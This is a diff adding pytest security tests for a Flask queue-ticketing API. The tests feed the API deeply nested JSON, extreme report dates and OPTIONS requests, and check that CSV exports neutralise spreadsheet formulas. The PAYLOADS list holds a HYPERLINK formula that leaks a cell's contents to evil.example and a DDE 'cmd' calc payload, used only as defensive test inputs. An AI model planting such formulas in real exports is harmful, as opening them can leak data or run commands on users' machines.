@@ -1,0 +1,219 @@
+"""Input as an attacker would send it, against the real app: JSON nested a thousand deep, report dates in
+year 1 and year 9999, spreadsheet formulas in names and dossier codes, ``OPTIONS`` on every route. Each is
+a 4xx in API.md's error shape (or a neutralised cell), never a 5xx."""
+
+from __future__ import annotations
+
+import copy
+import csv
+import io
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+from flask import Flask
+
+from server.domain.access import Role
+from server.services.accounts import auth as auth_service
+from tests.booking import MONDAY_7AM, at, booking_config
+from tests.conftest import PASSWORD, World
+from tests.integration.test_bad_input import assert_error
+
+DEEP_ARRAY = "[" * 5000 + "]" * 5000
+DEEP_OBJECT = '{"a":' * 5000 + "1" + "}" * 5000
+DEEP_INSIDE = '{"service_id": ' + "[" * 1000 + "]" * 1000 + "}"
+
+
+@pytest.fixture
+def booking_world(make_app: Callable[..., Flask], database_url: str) -> World:
+    app = make_app(database_url, booking_config())
+    app.extensions["luot"].clock = lambda: MONDAY_7AM
+    return World(app)
+
+
+def _json_post(world: World, path: str, body: str, headers: dict[str, str] | None = None) -> Any:
+    return world.client.post(path, data=body, headers={**(headers or {}), "Content-Type": "application/json"})
+
+
+@pytest.mark.parametrize("body", [DEEP_ARRAY, DEEP_OBJECT, DEEP_INSIDE])
+def test_json_nested_too_deep_is_400_on_the_issue_booking_enrolment_and_login_routes(
+    booking_world: World, body: str
+) -> None:
+    world = booking_world
+    kiosk = world.device("kiosk")
+    clerk = world.staff("clerk")
+    site = world.site("CB")["id"]
+    for path, headers in [
+        (f"/api/v1/sites/{site}/tickets", kiosk),
+        ("/api/v1/appointments", {}),
+        ("/api/v1/devices/enrol", {}),
+        ("/api/v1/auth/login", {}),
+        (f"/api/v1/tickets/{world.issue(kiosk)['id']}/complete", clerk),
+    ]:
+        assert_error(_json_post(world, path, body, headers), 400, "malformed_json")
+
+
+def test_json_nested_within_the_limit_or_brackets_inside_strings_are_read_as_usual(
+    booking_world: World,
+) -> None:
+    world = booking_world
+    kiosk = world.device("kiosk")
+    site = world.site("CB")["id"]
+    service = world.service("CB", "HT")["id"]
+    nested = '{"service_id": ' + "[" * 60 + "1" + "]" * 60 + "}"
+    assert_error(_json_post(world, f"/api/v1/sites/{site}/tickets", nested, kiosk), 422)
+    brackets = '{"service_id": %d, "language": "%s"}' % (service, "[" * 2000)  # noqa: UP031
+    assert_error(_json_post(world, f"/api/v1/sites/{site}/tickets", brackets, kiosk), 422)
+    booked = {
+        "site_id": site,
+        "service_id": service,
+        "start": at(9).isoformat(),
+        "name": "[[[[ {{{{ Nguyễn Văn An",
+        "phone": "0912345678",
+    }
+    response = world.client.post("/api/v1/appointments", json=booked)
+    assert response.status_code == 201, response.json
+
+
+EXTREME_PERIODS = [
+    "from=0001-01-01",
+    "from=9999-12-31",
+    "to=0001-01-01",
+    "to=9999-12-31",
+    "from=0001-01-01&to=0001-01-02",
+    "from=9999-12-30&to=9999-12-31",
+    "from=1999-12-31&to=2000-01-01",
+    "from=2099-12-31&to=2100-01-01",
+    "from=2026-03-01&to=2026-02-01",
+]
+
+
+@pytest.mark.parametrize("query", EXTREME_PERIODS)
+def test_reports_for_dates_outside_a_sane_range_are_422_bad_period(world: World, query: str) -> None:
+    admin = world.staff("admin", sites=())
+    site = world.site("CB")["id"]
+    for path in (
+        f"/api/v1/sites/{site}/stats",
+        f"/api/v1/sites/{site}/stats.csv",
+        f"/api/v1/sites/{site}/tickets.csv",
+        "/api/v1/communes/11914/stats",
+        "/api/v1/communes/11914/stats.csv",
+        "/api/v1/communes/11914/tickets.csv",
+    ):
+        assert_error(world.client.get(f"{path}?{query}", headers=admin), 422, "bad_period")
+    audit = world.client.get(f"/api/v1/sites/{site}/audit?{query}", headers=admin)
+    assert_error(audit, 422)  # the audit's own code for a reversed period, bad_period for extreme dates
+
+
+def test_the_edges_of_the_sane_range_are_reports_like_any_other(world: World) -> None:
+    admin = world.staff("admin", sites=())
+    site = world.site("CB")["id"]
+    for query in ("from=2000-01-01&to=2000-01-31", "from=2099-12-01&to=2099-12-31"):
+        response = world.client.get(f"/api/v1/sites/{site}/stats?{query}", headers=admin)
+        assert response.status_code == 200, response.json
+        assert response.json["issued"] == 0
+
+
+# -- CSV formula injection -------------------------------------------------------------------------
+
+PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"]
+
+
+def _rows(response: Any) -> list[list[str]]:
+    assert response.status_code == 200, response.get_data(as_text=True)
+    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+
+
+def _cells(rows: list[list[str]]) -> list[str]:
+    return [cell for row in rows for cell in row]
+
+
+def assert_neutralised(cells: list[str], payload: str) -> None:
+    assert "'" + payload in cells, (payload, cells)
+    assert payload not in cells
+
+
+@pytest.fixture
+def hostile_world(make_app: Callable[..., Flask], database_url: str) -> World:
+    """A site whose service, counter and clerk names are spreadsheet formulas."""
+    config = copy.deepcopy(booking_config())
+    site = config["communes"][0]["sites"][0]
+    site["always_open"] = True
+    site["services"][0]["name"] = "=1+2"
+    site["counters"][0]["name"] = "@SUM(A1:A9)"
+    return World(make_app(database_url, config))
+
+
+def test_formulas_in_dossier_codes_and_names_are_neutralised_in_both_exports(hostile_world: World) -> None:
+    world = hostile_world
+    kiosk = world.device("kiosk")
+    auth_service.add_user(
+        world.luot.uow(),
+        world.luot.hasher,
+        username="=cmd|calc",
+        password=PASSWORD,
+        role=Role.CLERK,
+        site_codes=["CB"],
+        at=world.luot.now(),
+    )
+    login = world.client.post("/api/v1/auth/login", json={"username": "=cmd|calc", "password": PASSWORD})
+    clerk = {"Authorization": f"Bearer {login.json['token']}"}
+    counter = world.open_counter(clerk)
+    for payload in PAYLOADS:
+        world.issue(kiosk)
+        ticket = world.client.post(f"/api/v1/counters/{counter}/call-next", headers=clerk).json
+        world.client.post(f"/api/v1/tickets/{ticket['id']}/start", headers=clerk)
+        done = world.client.post(
+            f"/api/v1/tickets/{ticket['id']}/complete", json={"dossier_code": payload}, headers=clerk
+        )
+        assert done.status_code == 200, done.json
+    manager = world.staff("manager")
+    site = world.site("CB")["id"]
+
+    log = _rows(world.client.get(f"/api/v1/sites/{site}/tickets.csv", headers=manager))
+    cells = _cells(log)
+    for payload in [*PAYLOADS, "=cmd|calc"]:
+        assert_neutralised(cells, payload)
+    assert _cells(_rows(world.client.get("/api/v1/communes/11914/tickets.csv", headers=manager))) == cells
+
+    stats = _cells(_rows(world.client.get(f"/api/v1/sites/{site}/stats.csv", headers=manager)))
+    for payload in ("=1+2", "@SUM(A1:A9)", "=cmd|calc"):
+        assert_neutralised(stats, payload)
+    commune = _cells(_rows(world.client.get("/api/v1/communes/11914/stats.csv", headers=manager)))
+    assert_neutralised(commune, "=1+2")
+    assert not [cell for cell in stats + cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_numbers_in_exports_stay_numbers(world: World) -> None:
+    kiosk = world.device("kiosk")
+    world.issue(kiosk)
+    manager = world.staff("manager")
+    site = world.site("CB")["id"]
+    rows = _rows(world.client.get(f"/api/v1/sites/{site}/stats.csv", headers=manager))
+    assert ["total", "", "", "issued", "1"] in rows
+
+
+# -- OPTIONS ---------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/api/v1/sites",
+        "/api/v1/health",
+        "/api/v1/sites/1/tickets",
+        "/api/v1/auth/login",
+        "/api/v1/sites/1/stats.csv",
+        "/api/v1/appointments",
+    ],
+)
+def test_options_under_the_api_answers_in_the_json_error_shape(world: World, path: str) -> None:
+    response = world.client.options(path)
+    assert response.content_type == "application/json"
+    assert_error(response, 405, "method_not_allowed")
+    assert "OPTIONS" not in response.headers["Allow"]
+    assert response.headers["Allow"]
+
+
+def test_options_of_an_unknown_api_route_is_the_json_404(world: World) -> None:
+    assert_error(world.client.options("/api/v1/no-such-route"), 404, "not_found")
